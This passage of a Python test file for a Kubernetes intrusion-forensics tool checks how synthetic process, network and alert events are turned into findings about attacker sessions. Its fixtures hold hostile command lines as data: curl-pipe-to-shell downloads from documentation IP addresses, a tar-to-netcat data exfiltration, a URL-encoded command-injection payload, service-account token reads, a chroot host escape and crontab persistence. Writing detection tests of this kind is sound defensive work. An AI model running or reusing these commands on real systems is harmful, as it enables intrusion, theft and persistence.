    curl, b = _run(51, _ref(sh), "/usr/bin/curl", "-X PUT http://db/x", "2026-03-01T10:00:01Z")
    _, c = _run(52, _ref(sh), "/usr/bin/pkill", "nginx", "2026-03-01T10:00:09Z")
    victim, d = _run(40, SHIM, "/usr/sbin/nginx", "-g daemon off;", "2026-03-01T08:00:00Z", init=True)
    death = json.dumps({"process_exit": {"process": victim, "parent": SHIM, "signal": "SIGTERM"},
                        "node_name": NODE, "time": "2026-03-01T10:00:09.2Z"})
    c_ = _case(tmp_path, [a, b, c, d, death, _connect(curl, _ref(sh), 41001, "10.0.5.5", 80, "2026-03-01T10:00:01.1Z"),
                          *_put_sightings(41001, "2026-03-01T10:00:01.101Z")])
    f = H.derive_findings(c_)
    assert f["flag_text"] == "/usr/bin/pkill nginx"
    assert f["flag"]["reason"] == "last process of the session that signalled another process"
    c_.close()


def test_a_one_shot_that_got_through_outranks_its_refused_retry(tmp_path):
    lines = []
    for i, (verdict, t) in enumerate((("FORWARDED", "10:10"), ("DROPPED", "10:16"))):
        pid = 60 + 10 * i
        sh, a = _run(pid, SHIM, "/bin/sh", "-c 'curl -s -X PUT http://db/x'", f"2026-03-01T{t}:00Z")
        curl, b = _run(pid + 1, _ref(sh), "/usr/bin/curl", "-s -X PUT http://db/x", f"2026-03-01T{t}:00.1Z")
        lines += [a, b, _connect(curl, _ref(sh), 41000 + i, "10.0.5.5", 80, f"2026-03-01T{t}:00.2Z"),
                  _sighting(41000 + i, "10.0.5.5", 80, verdict, f"2026-03-01T{t}:00.201Z", dst_pod="db-0", method="PUT")]
    c_ = _case(tmp_path, lines)
    f = H.derive_findings(c_)
    assert (f["entry"]["exec_id"], f["flag"]["pid"]) == (_id(60), 61)
    assert [r["verdict"] for r in f["attack_flows"]] == ["FORWARDED"]
    c_.close()


def test_in_old_exports_a_shell_exec_d_into_a_quiet_container_is_found(tmp_path):
    # no in_init_tree; the container's main process started before the capture and did nothing since
    def old(line: str) -> str:
        ev = json.loads(line)
        ev["process_exec"]["process"].pop("in_init_tree")
        return json.dumps(ev)

    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    curl, b = _run(51, _ref(sh), "/usr/bin/curl", "-X PUT http://db/x", "2026-03-01T10:00:01Z")
    c_ = _case(tmp_path, [old(a), old(b), _connect(curl, _ref(sh), 41001, "10.0.5.5", 80, "2026-03-01T10:00:01.1Z"),
                          *_put_sightings(41001, "2026-03-01T10:00:01.101Z")])
    f = H.derive_findings(c_)
    assert (f["basis"], f["flag_text"]) == ("interactive shell outside the init tree", "/usr/bin/curl -X PUT http://db/x")
    c_.close()


def test_an_escape_through_mount_and_chroot_to_cron_is_a_session_without_falco(tmp_path):
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    _, b = _run(51, _ref(bash), "/bin/mount", "/dev/nvme0n1p1 /mnt", "2026-03-01T10:00:01Z")
    chroot, c = _run(52, _ref(bash), "/usr/sbin/chroot", "/mnt /bin/bash", "2026-03-01T10:00:02Z")
    host, d = _run(53, _ref(chroot), "/bin/bash", "", "2026-03-01T10:00:02.5Z")
    tee, e = _run(54, _ref(host), "/usr/bin/tee", "-a /etc/crontab", "2026-03-01T10:00:03Z")
    cron = json.dumps({"process_kprobe": {"process": tee, "parent": _ref(host), "function_name": "security_file_open",
                                          "args": [{"file_arg": {"path": "/etc/crontab"}}]},
                       "node_name": NODE, "time": "2026-03-01T10:00:03.1Z"})
    c_ = _case(tmp_path, [a, b, c, d, e, cron])
    f = H.derive_findings(c_)
    assert (f["attacker_pod"], f["flag_text"]) == (POD, "/usr/sbin/chroot /mnt /bin/bash")
    assert [h["file_path"] for h in f["hooks"]] == ["/etc/crontab"] and not f["notes"]
    # the steps list what counted, the mount beside the chain included
    assert [(x["binary"], x["what"]) for x in f["steps"]] == [
        ("/bin/mount", "a namespace or root-filesystem tool"), ("/usr/sbin/chroot", "a namespace or root-filesystem tool"),
        ("/usr/bin/tee", "credentials or persistence files")]
    c_.close()


def _host(pid: int, parent: dict, binary: str, args: str, t: str) -> tuple[dict, str]:
    """A process on the node outside any pod (the host's)."""
    p = {k: v for k, v in _proc(pid, parent["pid"], binary, args, t, init=False).items() if k not in ("pod", "docker")}
    return p, json.dumps({"process_exec": {"process": p, "parent": parent}, "node_name": NODE, "time": t})


def test_what_an_escape_left_running_on_the_host_is_listed(tmp_path):
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    _, b = _run(52, _ref(bash), "/usr/sbin/chroot", "/host /bin/bash", "2026-03-01T10:00:02Z")
    cron = {"exec_id": _id(5), "pid": 5, "binary": "/usr/sbin/cron", "arguments": "-f"}
    early, c = _host(40, cron, "/tmp/.early", "", "2026-03-01T09:00:00Z")  # before the escape
    sh, d = _host(60, cron, "/bin/sh", "-c 'curl -s http://203.0.113.9/p | sh'", "2026-03-01T10:05:00Z")
    payload, e = _host(62, _ref(sh), "/tmp/.p", "", "2026-03-01T10:05:01Z")
    _, g = _host(63, cron, "/usr/sbin/logrotate", "/etc/logrotate.conf", "2026-03-01T10:06:00Z")  # routine
    c_ = _case(tmp_path, [a, b, c, d, e, g, _connect(payload, _ref(sh), 41002, "203.0.113.9", 4444,
                                                      "2026-03-01T10:05:02Z")])
    f = H.derive_findings(c_)
    assert f["attacker_pod"] == POD
    assert [(r["binary"], r["parent"], r["what"]) for r in f["aftermath"]] == [
        ("/tmp/.p", "/bin/sh -c 'curl -s http://203.0.113.9/p | sh'",
         "run from a writable directory, connected out of the cluster")]
    assert any(n.startswith("after the session's /usr/sbin/chroot /host /bin/bash, 1 suspicious process(es) ran "
                            "on the node outside any pod") for n in f["notes"])
    c_.close()


def test_a_kubectl_cp_delivery_is_named(tmp_path):
    # `kubectl cp` = `tar xf - -C /tmp` exec'd into the container, then the tool exec'd from /tmp
    tar, a = _run(50, SHIM, "/bin/tar", "xf - -C /tmp", "2026-03-01T10:00:00Z")
    wrote = json.dumps({"process_kprobe": {"process": tar, "parent": SHIM, "function_name": "security_file_open",
                                           "args": [{"file_arg": {"path": "/tmp/tool"}}]},
                        "node_name": NODE, "time": "2026-03-01T10:00:00.5Z"})
    tool, b = _run(60, SHIM, "/tmp/tool", "--scan 10.0.0.0/24", "2026-03-01T10:01:00Z")
    c_ = _case(tmp_path, [a, wrote, b, _connect(tool, SHIM, 41001, "203.0.113.5", 443, "2026-03-01T10:01:01Z")])
    f = H.derive_findings(c_)
    assert f["flag_text"] == "/tmp/tool --scan 10.0.0.0/24"
    assert any(n.startswith("/tmp/tool was written or opened before it ran by /bin/tar xf - -C /tmp") for n in f["notes"])
    c_.close()


def _alert_on(pid: int, rule: str, priority: str, t: str) -> str:
    return json.dumps({"hostname": NODE, "output": rule, "priority": priority, "rule": rule, "source": "syscall",
                       "tags": [], "time": t, "output_fields": {"container.id": CID[:12], "proc.pid": pid,
                                                                "k8s.pod.name": POD, "k8s.ns.name": "shop"}})


def test_a_quiet_probe_in_the_same_pod_before_the_session_is_named_as_such(tmp_path):
    # command injection: the intruder's first try (`;id`, alerted on as a shell, nothing below it)
    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/local/bin/python3", "arguments": "app.py"}
    probe = _exec(25, server, "/bin/sh", "-c 'curl -s x;id'", "2026-03-01T09:59:00Z")
    c_ = _case(tmp_path, [probe, _alert_on(25, "Run shell untrusted", "Notice", "2026-03-01T09:59:00.1Z"),
                          *_lines()])
    f = H.derive_findings(c_)
    assert f["entry"]["exec_id"] == _id(20)
    note = [n for n in f["notes"] if "quiet session(s) ran in the same pod before the reported one" in n]
    assert note and "-c 'curl -s x;id'" in note[0] and "administrator" not in " ".join(f["notes"])
    c_.close()


def test_ci_jobs_differing_only_in_ids_are_routine_and_the_intruders_exec_is_the_session(tmp_path):
    # a CI agent runs its job script (new temp dir each time): git fetches from outside, go test
    # downloads, kubectl deploys with a Notice alert; the intruder's kubectl exec reads the token
    agent = {"exec_id": _id(10), "pid": 10, "binary": "/usr/bin/java", "arguments": "-jar agent.jar"}
    lines: list[str] = []
    for i, (job, t) in enumerate([("75999529", "08"), ("0a3f1c2d", "09"), ("1b2c3d4e", "11")]):
        pid = 100 + 10 * i
        sh, a = _run(pid, agent, "/bin/sh", f"-xe /home/ci/ws@tmp/durable-{job}/script.sh", f"2026-03-01T{t}:00:00Z")
        git, b = _run(pid + 1, _ref(sh), "/usr/bin/git", "fetch https://github.com/acme/app.git", f"2026-03-01T{t}:00:01Z")
        remote, c = _run(pid + 2, _ref(git), "/usr/lib/git-core/git-remote-https", "origin", f"2026-03-01T{t}:00:02Z")
        go, d = _run(pid + 3, _ref(sh), "/usr/local/go/bin/go", "test ./...", f"2026-03-01T{t}:00:10Z")
        kubectl, e = _run(pid + 4, _ref(sh), "/usr/local/bin/kubectl", "set image deploy/app", f"2026-03-01T{t}:01:00Z")
        lines += [a, b, c, d, e, _connect(remote, _ref(git), 40000 + i, "140.82.112.3", 443, f"2026-03-01T{t}:00:03Z"),
                  _connect(go, _ref(sh), 41000 + i, "142.250.74.17", 443, f"2026-03-01T{t}:00:11Z"),
                  _connect(kubectl, _ref(sh), 42000 + i, "10.96.0.1", 443, f"2026-03-01T{t}:01:01Z"),
                  _alert_on(pid + 4, "Contact K8S API Server From Container", "Notice", f"2026-03-01T{t}:01:01Z")]
    bash, a = _run(300, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    cat, b = _run(301, _ref(bash), "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token",
                  "2026-03-01T10:00:05Z")
    token = json.dumps({"process_kprobe": {"process": cat, "parent": _ref(bash), "function_name": "security_file_open",
                                           "args": [{"file_arg": {"path": "/var/run/secrets/kubernetes.io/serviceaccount/token"}}]},
                        "node_name": NODE, "time": "2026-03-01T10:00:05.1Z"})
    curl, c = _run(302, _ref(bash), "/usr/bin/curl", "-k https://10.96.0.1/api/v1/namespaces/payments/pods -d @p.json",
                   "2026-03-01T10:00:20Z")
    lines += [a, b, token, c, _alert_on(301, "Read sensitive file untrusted", "Warning", "2026-03-01T10:00:05.2Z"),
              _connect(curl, _ref(bash), 43000, "10.96.0.1", 443, "2026-03-01T10:00:21Z")]
    c_ = _case(tmp_path, lines)
    entries = H.session_entries(c_)
    assert entries["exec_id"].to_list() == [_id(300)]  # the jobs are routine, their downloads the build's
    f = H.derive_findings(c_)
    assert (f["attacker_pod"], f["entry"]["exec_id"]) == (POD, _id(300))
    c_.close()


def _request_in(sport: int, url: str, t: str, node: str = NODE) -> str:
    flow = {"time": t, "verdict": "FORWARDED", "Type": "L7", "node_name": node, "is_reply": False,
            "traffic_direction": "INGRESS" if node == NODE else "EGRESS",
            "IP": {"source": "10.0.7.7", "destination": "10.0.2.7", "ipVersion": "IPv4"},
            "l4": {"TCP": {"source_port": sport, "destination_port": 8080}},
            "source": {"namespace": "ingress", "pod_name": "ingress-nginx-abcde", "labels": ["k8s:app=ingress"]},
            "destination": {"namespace": "shop", "pod_name": POD, "labels": ["k8s:app=api"]},
            "l7": {"type": "REQUEST", "http": {"method": "GET", "url": url}}}
    return json.dumps({"flow": flow, "node_name": node, "time": t})


def test_the_request_that_carried_an_injected_command_is_named(tmp_path):
    exploit = "http://shop/api/preview?url=x%3Bcurl%20http%3A%2F%2F203.0.113.9%2Fx%7Csh"
    c_ = _case(tmp_path, [*_lines(),
                          _request_in(50001, "http://shop/api/items", "2026-03-01T09:59:50Z"),  # too early
                          _request_in(50002, exploit, "2026-03-01T09:59:59.9Z", node="worker-1"),  # other node
                          _request_in(50002, exploit, "2026-03-01T09:59:59.998Z")])
    f = H.derive_findings(c_)
    assert [(r["http_url"], r["node"], r["src_pod"]) for r in f["triggers"]] == [(exploit, NODE, "ingress-nginx-abcde")]
    assert any(n.startswith(f"the pod received GET {exploit} from ingress/ingress-nginx-abcde") for n in f["notes"])
    assert c_.flows(http_url="203.0.113.9").height == 2 and c_.flows(http_path="203.0.113.9").is_empty()
    c_.close()


def test_a_source_missing_on_the_sessions_node_is_said(tmp_path):
    # Falco exported from another node only: "no alerts" on the session's node is no evidence
    other = json.loads(_exec(90, {"exec_id": _id(1), "pid": 1}, "/bin/true", "", "2026-03-01T09:00:00Z"))
    other["node_name"] = "worker-9"
    elsewhere = json.loads(_alert_on(90, "Launch Package Management Process in Container", "Error",
                                     "2026-03-01T09:00:00.1Z")) | {"hostname": "worker-9"}
    lines = [line for line in _lines() if '"hostname"' not in line]
    c_ = _case(tmp_path, [*lines, json.dumps(other), json.dumps(elsewhere)])
    f = H.derive_findings(c_)
    assert f["node"] == NODE
    assert any(n.startswith(f"no Falco alerts from {NODE} in the capture, though 1 other node(s) have them")
               for n in f["notes"])
    c_.close()
    # the alerts' host names are no node Tetragon knows: nothing to say
    elsewhere["hostname"] = "falco-7x2kq"
    c_ = _case(tmp_path / "b" if (tmp_path / "b").mkdir() is None else tmp_path, [*lines, json.dumps(elsewhere)])
    assert not any("no Falco alerts" in n for n in H.derive_findings(c_)["notes"])
    c_.close()


def test_without_processes_a_scraper_retrying_one_refused_target_does_not_outweigh_a_critical_alert(tmp_path):
    scraper = []
    for i in range(60):  # a misconfigured metrics scrape, refused all day, each retry its own connection
        line = json.loads(_flow(45000 + i, "10.0.9.9", 9100, "DROPPED", f"2026-03-01T09:{i:02d}:00Z"))
        line["flow"]["source"] = {"namespace": "monitoring", "pod_name": "prometheus-0", "labels": ["k8s:app=prom"]}
        scraper.append(json.dumps(line))
    alert = json.dumps({"hostname": NODE, "output": "Drop and execute new binary", "priority": "Critical",
                        "rule": "Drop and execute new binary in container", "source": "syscall", "tags": [],
                        "time": "2026-03-01T10:00:02Z",
                        "output_fields": {"container.id": CID[:12], "proc.pid": 30, "proc.exepath": "/tmp/.x",
                                          "k8s.pod.name": POD, "k8s.ns.name": "shop"}})
    c_ = _case(tmp_path, [*scraper, alert, _flow(39001, "198.51.100.7", 4444, "FORWARDED", "2026-03-01T10:00:03Z")])
    f = H.derive_findings(c_)
    assert f["attacker_pod"] == POD, f["notes"]
    assert any(n.endswith("; also pointed at, less: monitoring/prometheus-0") for n in f["notes"])
    c_.close()


def test_an_aftermath_note_counts_a_cron_entrys_runs_once_each():
    from kernelsec_nb.report.surroundings import aftermath_note

    run = {"binary": "/bin/sh", "args": "-c 'curl x | sh'", "what": "connected out of the cluster",
           "parent": "/usr/sbin/cron -f", "after": "/usr/sbin/chroot /host"}
    (note,) = aftermath_note([run] * 8)
    assert "8 suspicious process(es)" in note and note.count("curl x | sh") == 1 and "8 runs" in note


def test_a_pod_started_just_after_a_session_elsewhere_called_the_api_names_that_session(tmp_path):
    # ci pod: kubectl exec -> bash -> curl to the API server (6443) creating a pod; an operator's
    # main process talks to the API too (its work); the new pod starts, and is exec'd into
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    curl, b = _run(51, _ref(bash), "/usr/bin/curl", "-k -X POST https://10.96.0.1:6443/api/v1/namespaces/x/pods",
                   "2026-03-01T10:00:10Z")
    operator, c = _run(60, SHIM, "/manager", "--leader-elect", "2026-03-01T09:00:00Z", init=True)
    c = _in_pod(c, "operator-0", "c")
    op_call = json.loads(_connect(operator, SHIM, 41500, "10.96.0.1", 6443, "2026-03-01T10:00:11Z"))
    op_call["process_kprobe"]["process"]["pod"]["name"] = "operator-0"
    main, d = _run(70, SHIM, "/bin/sleep", "infinity", "2026-03-01T10:00:12Z", init=True)
    shell, e = _run(71, SHIM, "/bin/sh", "", "2026-03-01T10:00:20Z")
    _, g = _run(72, _ref(shell), "/usr/sbin/chroot", "/host /bin/sh", "2026-03-01T10:00:21Z")
    payload, h = _run(73, _ref(shell), "/tmp/.p", "", "2026-03-01T10:00:30Z")
    out = json.loads(_connect(payload, _ref(shell), 41600, "203.0.113.9", 4444, "2026-03-01T10:00:31Z"))
    out["process_kprobe"]["process"]["pod"]["name"] = "debug-new"
    new = [_in_pod(x, "debug-new", "d") for x in (d, e, g, h)]
    c_ = _case(tmp_path, [a, b, _connect(curl, _ref(bash), 41000, "10.96.0.1", 6443, "2026-03-01T10:00:10.5Z"),
                          c, json.dumps(op_call), *new, json.dumps(out)])
    f = H.derive_findings(c_)
    assert f["attacker_pod"] == "debug-new"
    assert [(r["pod"], r["binary"], r["seconds_before"]) for r in f["origin"]] == [(POD, "/usr/bin/curl", 1.5)]
    assert any(n.startswith("the pod shop/debug-new itself started during the capture, 1.5 s after /usr/bin/curl")
               and f"in shop/{POD} contacted the Kubernetes API" in n for n in f["notes"])
    c_.close()


def test_without_an_l7_flow_the_request_whose_arguments_send_data_is_key(tmp_path):
    # TLS to the API server: Hubble cannot read the method; the POST that created something is
    # key, not the status check after it
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    post, b = _run(51, _ref(bash), "/usr/bin/curl", "-k -X POST https://10.96.0.1/api/v1/namespaces/x/pods -d @p.json",
                   "2026-03-01T10:00:10Z")
    get, c = _run(52, _ref(bash), "/usr/bin/curl", "-k https://10.96.0.1/api/v1/namespaces/x/pods/p",
                  "2026-03-01T10:00:20Z")
    lines = [a, b, c, _connect(post, _ref(bash), 41000, "10.96.0.1", 443, "2026-03-01T10:00:10.5Z"),
             _connect(get, _ref(bash), 41001, "10.96.0.1", 443, "2026-03-01T10:00:20.5Z"),
             _alert_on(51, "Contact K8S API Server From Container", "Warning", "2026-03-01T10:00:10.6Z"),
             _alert_on(52, "Contact K8S API Server From Container", "Warning", "2026-03-01T10:00:20.6Z")]
    c_ = _case(tmp_path, lines)
    f = H.derive_findings(c_)
    assert f["flag"]["exec_id"] == _id(51), f["flag"]
    c_.close()


def test_a_shell_sshd_started_is_a_login_session_and_the_connection_it_came_over_is_named(tmp_path):
    # no Falco, nothing in /tmp: ssh from another pod into this one, then tar | nc out of the cluster
    sshd, a = _run(10, SHIM, "/usr/sbin/sshd", "-D -e", "2026-03-01T08:00:00Z", init=True)
    bash, b = _run(20, _ref(sshd), "/bin/bash", "-c 'tar czf - /data | nc 203.0.113.77 9001'", "2026-03-01T10:00:01Z",
                   init=True)
    nc, c = _run(22, _ref(bash), "/usr/bin/nc", "203.0.113.77 9001", "2026-03-01T10:00:01.1Z", init=True)
    # the client: ssh in another pod on another node, matched to the flow by its connect's 5-tuple
    client = json.loads(_run(90, SHIM, "/usr/bin/ssh", "-i /tmp/k user@10.0.2.7", "2026-03-01T10:00:00Z")[1])
    client["node_name"] = "worker-5"
    client["process_exec"]["process"]["pod"] = {"namespace": "analytics", "name": "report-worker-x",
                                                "container": {"id": "containerd://" + "e" * 64}}
    connect = json.loads(_connect(client["process_exec"]["process"], SHIM, 50100, "10.0.2.7", 22, "2026-03-01T10:00:00.2Z"))
    connect["node_name"] = "worker-5"
    connect["process_kprobe"]["args"][0]["sock_arg"]["saddr"] = "10.0.5.9"
    flow = json.loads(_sighting(50100, "10.0.2.7", 22, "FORWARDED", "2026-03-01T10:00:00.201Z", dst_pod=POD))
    flow["flow"]["IP"]["source"] = "10.0.5.9"
    flow["flow"]["source"] = {"namespace": "analytics", "pod_name": "report-worker-x", "labels": ["k8s:app=rw"]}
    flow["flow"]["destination"]["namespace"] = "shop"
    c_ = _case(tmp_path, [a, b, c, _connect(nc, _ref(bash), 41000, "203.0.113.77", 9001, "2026-03-01T10:00:01.2Z"),
                          json.dumps(client), json.dumps(connect), json.dumps(flow)])
    f = H.derive_findings(c_)
    assert (f["basis"], f["attacker_pod"], f["flag_text"]) == (H.LOGIN, POD, "/usr/bin/nc 203.0.113.77 9001")
    assert [(t["src_pod"], t["dst_port"], t["by"]) for t in f["triggers"]] == [
        ("report-worker-x", 22, "/usr/bin/ssh -i /tmp/k user@10.0.2.7")]
    assert any(n.startswith("the login came over a connection from analytics/report-worker-x to port 22") for n in f["notes"])
    c_.close()


def test_a_reload_is_no_kill_when_something_else_stops_by_another_signal(tmp_path):
    # an SRE's `kill -HUP 1` reloads nginx; 2 s later their `tail -f` in another shell stops by Ctrl-C
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    _, b = _run(51, _ref(sh), "/bin/kill", "-HUP 1", "2026-03-01T10:00:05Z")
    tail, c = _run(60, SHIM, "/usr/bin/tail", "-f /var/log/app.log", "2026-03-01T09:59:00Z")
    stop = json.dumps({"process_exit": {"process": tail, "parent": SHIM, "signal": "SIGINT"},
                       "node_name": NODE, "time": "2026-03-01T10:00:07Z"})
    c_ = _case(tmp_path, [a, b, c, stop])
    f = H.derive_findings(c_)
    assert f["attacker_pod"] is None and f["flag"] is None, f["flag"]
    c_.close()


def test_ci_job_pods_run_through_exec_are_no_attack(tmp_path):
    # a CI executor execs a bare shell into each new job pod; the job builds with kaniko (apt-get
    # alerted on), installs with `node npm`, builds a Go binary to /tmp and runs its self-test
    lines: list[str] = []
    for i, job in enumerate(("a1cywgsx", "dciy1a2a")):
        pid, t = 100 + 20 * i, f"2026-03-01T1{i}:00"
        cid = "abcdef"[i] * 64
        sh, a = _run(pid, SHIM, "/busybox/sh", "", f"{t}:00Z")
        kaniko, b = _run(pid + 1, _ref(sh), "/kaniko/executor", "--context dir:///builds --destination reg.example.com/x",
                         f"{t}:01Z")
        apt, c = _run(pid + 2, _ref(kaniko), "/usr/bin/apt-get", "update", f"{t}:02Z")
        npm, d = _run(pid + 3, _ref(sh), "/usr/local/bin/node", "/usr/local/bin/npm ci --omit=dev", f"{t}:10Z")
        go, e = _run(pid + 4, _ref(sh), "/usr/local/go/bin/go", f"build -o /tmp/build-88{i}/app ./cmd/app", f"{t}:20Z")
        _, g = _run(pid + 5, _ref(sh), f"/tmp/build-88{i}/app", "selftest", f"{t}:30Z")  # the build's output
        pod_lines = [a, b, c, d, e, g,
                     _connect(kaniko, _ref(sh), 44000 + i, "52.1.2.3", 443, f"{t}:01.5Z"),
                     _connect(npm, _ref(sh), 44100 + i, "104.16.1.1", 443, f"{t}:10.5Z")]
        lines += [_in_pod(x, f"runner-project-4217-concurrent-0-{job}", cid[0]) if '"process_exec"' in x else x
                  for x in pod_lines]
        alert = json.loads(_alert_on(pid + 2, "Launch Package Management Process in Container", "Error", f"{t}:02.1Z"))
        alert["output_fields"] |= {"container.id": cid[:12], "k8s.pod.name": f"runner-project-4217-concurrent-0-{job}"}
        lines.append(json.dumps(alert))
    c_ = _case(tmp_path, lines)
    f = H.derive_findings(c_)
    assert f["attacker_pod"] is None, (f["basis"], f["flag_text"])
    c_.close()


def test_what_a_nodes_agents_start_is_no_aftermath(tmp_path):
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    _, b = _run(52, _ref(bash), "/usr/sbin/chroot", "/host /bin/bash", "2026-03-01T10:00:02Z")
    kubelet = {"exec_id": _id(3), "pid": 3, "binary": "/usr/bin/kubelet", "arguments": "--config /var/lib/kubelet"}
    mount, c = _host(60, kubelet, "/usr/bin/mount", "-t tmpfs tmpfs /var/lib/kubelet/pods/x/volumes/kube-api-access",
                     "2026-03-01T10:01:00Z")
    c_ = _case(tmp_path, [a, b, c])
    assert H.derive_findings(c_)["aftermath"] == []
    c_.close()


def test_a_program_a_service_runs_all_day_from_tmp_is_routine_whatever_its_flags(tmp_path):
    # a PDF renderer a service runs from /tmp per request (fetching fonts outside), once with other flags
    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/local/bin/node", "arguments": "server.js"}
    lines = []
    for i in range(8):
        flags = "--quiet --enable-local-file-access" if i == 5 else "--quiet"
        p, line = _run(200 + i, server, "/tmp/wkhtmltox/bin/wkhtmltopdf", f"{flags} /tmp/in-{i}.html /tmp/out-{i}.pdf",
                       f"2026-03-01T10:0{i}:00Z", init=True)
        lines += [line, _connect(p, server, 45000 + i, "142.250.74.3", 443, f"2026-03-01T10:0{i}:01Z")]
    c_ = _case(tmp_path, lines)
    f = H.derive_findings(c_)
    assert f["attacker_pod"] is None, (f["basis"], f["flag_text"])
    c_.close()


def test_a_program_the_entrypoint_of_a_rollouts_new_pods_starts_is_a_lead(tmp_path):
    # three pods of one workload; the two new ones' entrypoint script also starts a hidden updater
    # that reads the service-account token (a Warning alert); the old pod does not run it
    lines: list[str] = []
    for i, (pod, cid, poisoned) in enumerate([("shop-api-old-aaaaa", "a", False), ("shop-api-new-bbbbb", "b", True),
                                              ("shop-api-new-ccccc", "c", True)]):
        pid, t = 300 + 10 * i, f"2026-03-01T10:0{i}:00"
        entry, a = _run(pid, SHIM, "/bin/sh", "/usr/local/bin/entry.sh", f"{t}Z", init=True)
        _, b = _run(pid + 1, _ref(entry), "/usr/local/bin/worker", "--queue jobs", f"{t}.1Z", init=True)
        lines += [_in_pod(a, pod, cid), _in_pod(b, pod, cid)]
        if poisoned:
            upd, c = _run(pid + 2, _ref(entry), "/usr/lib/.cache/updater", "", f"{t}.2Z", init=True)
            hook = json.loads(json.dumps({"process_kprobe": {
                "process": upd, "parent": _ref(entry), "function_name": "security_file_open",
                "args": [{"file_arg": {"path": "/var/run/secrets/kubernetes.io/serviceaccount/token"}}]},
                "node_name": NODE, "time": f"{t}.3Z"}))
            alert = json.loads(_alert_on(pid + 2, "Read sensitive file untrusted", "Warning", f"{t}.3Z"))
            alert["output_fields"] |= {"container.id": (cid * 12), "k8s.pod.name": pod}
            lines += [_in_pod(c, pod, cid), json.dumps(hook), json.dumps(alert)]
    c_ = _case(tmp_path, lines)
    # a new version's addition looks the same in the events: a hedged lead, not an accusation
    f = H.derive_findings(c_)
    assert f["attacker_pod"] is None
    assert any(n.startswith("/usr/lib/.cache/updater ran in 2 of the 3 pods of workload shop-api")
               and n.endswith("a new version's addition, or a poisoned rollout?") for n in f["notes"])
    c_.close()


def test_a_kernel_started_by_a_request_and_running_a_shell_later_names_that_request(tmp_path):
    # a notebook server starts a kernel on POST /api/kernels; the kernel runs the payload's shell
    # 40 s later: the request before the shell is none, the one before the kernel is the trigger
    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/bin/python3", "arguments": "-m jupyter lab"}
    kernel, a = _run(20, server, "/usr/bin/python3", "-m ipykernel_launcher -f kernel-1.json",
                     "2026-03-01T10:00:00.05Z", init=True)
    sh, b = _run(21, _ref(kernel), "/bin/sh", "-c 'curl -sL http://198.51.100.23/x.sh | sh'",
                 "2026-03-01T10:00:40Z", init=True)
    miner, c = _run(22, _ref(sh), "/dev/shm/.kswapd", "-o pool.example:4444", "2026-03-01T10:00:41Z", init=True)
    post = json.loads(_request_in(50001, "http://jupyter/api/kernels", "2026-03-01T10:00:00Z"))
    post["flow"]["l7"]["http"]["method"] = "POST"
    c_ = _case(tmp_path, [a, b, c, _connect(miner, _ref(sh), 41000, "203.0.113.50", 4444, "2026-03-01T10:00:42Z"),
                          _alert_on(22, "Drop and execute new binary in container", "Critical", "2026-03-01T10:00:41.1Z"),
                          json.dumps(post)])
    f = H.derive_findings(c_)
    assert [(t["http_method"], t["http_url"]) for t in f["triggers"]] == [("POST", "http://jupyter/api/kernels")]
    assert any("just before the service process that started /bin/sh (/usr/bin/python3 -m ipykernel_launcher"
               in n for n in f["notes"])
    c_.close()


def test_a_service_shell_that_only_writes_a_crontab_is_a_session_named_beside_the_main_one(tmp_path):
    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/bin/python3", "arguments": "-m ipykernel_launcher"}
    sh, a = _run(21, server, "/bin/sh", "-c 'curl -sL http://198.51.100.23/x.sh | sh'", "2026-03-01T10:00:40Z",
                 init=True)
    miner, b = _run(22, _ref(sh), "/dev/shm/.kswapd", "-o pool.example:4444", "2026-03-01T10:00:41Z", init=True)
    cron_sh, c = _run(30, server, "/bin/sh", "-c '(crontab -l; echo x) | crontab -'", "2026-03-01T10:01:20Z", init=True)
    crontab, d = _run(31, _ref(cron_sh), "/usr/bin/crontab", "-", "2026-03-01T10:01:20.1Z", init=True)
    wrote = json.dumps({"process_kprobe": {"process": crontab, "parent": _ref(cron_sh), "function_name": "security_file_open",
                                           "args": [{"file_arg": {"path": "/var/spool/cron/crontabs/root"}}]},
                        "node_name": NODE, "time": "2026-03-01T10:01:20.2Z"})
    c_ = _case(tmp_path, [a, b, c, d, wrote, _connect(miner, _ref(sh), 41000, "203.0.113.50", 4444, "2026-03-01T10:00:42Z"),
                          _alert_on(22, "Drop and execute new binary in container", "Critical", "2026-03-01T10:00:41.1Z")])
    f = H.derive_findings(c_)
    assert f["entry"]["exec_id"] == _id(21)
    assert any("in the same pod also: /bin/sh -c '(crontab -l; echo x) | crontab -'" in n for n in f["notes"])
    c_.close()


def test_the_same_request_getting_through_after_a_policy_fix_is_no_way_around_it(tmp_path):
    sh, a = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    first, b = _run(51, _ref(sh), "/usr/bin/curl", "-sv http://db:8080/v1/health", "2026-03-01T10:00:05Z")
    again, c = _run(52, _ref(sh), "/usr/bin/curl", "-sv http://db:8080/v1/health", "2026-03-01T10:09:00Z")
    lines = [a, b, c, _connect(first, _ref(sh), 41001, "10.0.5.5", 8080, "2026-03-01T10:00:05.1Z"),
             _sighting(41001, "10.0.5.5", 8080, "DROPPED", "2026-03-01T10:00:05.101Z", dst_pod="db-0"),
             _connect(again, _ref(sh), 41002, "10.0.5.5", 8080, "2026-03-01T10:09:00.1Z"),
             _sighting(41002, "10.0.5.5", 8080, "FORWARDED", "2026-03-01T10:09:00.101Z", dst_pod="db-0", method="GET")]
    c_ = _case(tmp_path, lines)
    assert H.reached(c_, [_id(50), _id(51), _id(52)]) == set()
    c_.close()


def test_a_debug_priority_alert_is_no_alarm(tmp_path):
    server = {"exec_id": _id(10), "pid": 10, "binary": "/usr/bin/node", "arguments": "server.js"}
